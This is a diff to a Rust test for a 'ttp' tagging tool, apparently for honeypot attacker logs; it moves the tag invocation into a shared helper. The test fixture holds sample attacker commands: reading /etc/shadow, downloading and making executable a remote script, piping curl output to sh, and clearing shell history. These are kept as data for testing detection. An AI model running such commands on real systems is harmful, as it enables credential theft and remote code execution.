@@ -56,33 +56,13 @@ fn export_and_validate(kind: &str, db: &Path, extra: &[&str], file: &Path) -> St
 
 fn own_db(dir: &Path) -> PathBuf {
     let db = dir.join("own.db");
-    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
     let events = [
         r#"{"source_kind":"command","source_id":"s1#0","attacker_uuid":"a1","session_id":"s1","payload":{"command_text":"cat /etc/shadow"}}"#,
         r#"{"source_kind":"command","source_id":"s1#1","attacker_uuid":"a1","session_id":"s1","payload":{"command_text":"wget http://198.51.100.9/x.sh -O /tmp/x.sh; chmod +x /tmp/x.sh"}}"#,
         r#"{"source_kind":"command","source_id":"s2#0","attacker_uuid":"a2","session_id":"s2","payload":{"command_text":"curl -s 'https://e.example/a?b=1' | sh"}}"#,
         r#"{"source_kind":"command","source_id":"s2#1","attacker_uuid":"a2","session_id":"s2","payload":{"command_text":"history -c"}}"#,
     ];
-    let mut c = Command::new(env!("CARGO_BIN_EXE_ttp"))
-        .args([
-            "tag",
-            "--rules",
-            rules.to_str().unwrap(),
-            "--db",
-            db.to_str().unwrap(),
-        ])
-        .env("TTP_LOG", "error")
-        .stdin(std::process::Stdio::piped())
-        .stdout(std::process::Stdio::null())
-        .spawn()
-        .unwrap();
-    use std::io::Write;
-    c.stdin
-        .take()
-        .unwrap()
-        .write_all(events.join("\n").as_bytes())
-        .unwrap();
-    assert!(c.wait().unwrap().success());
+    common::ttp_tag(&db, &events);
     db
 }
 
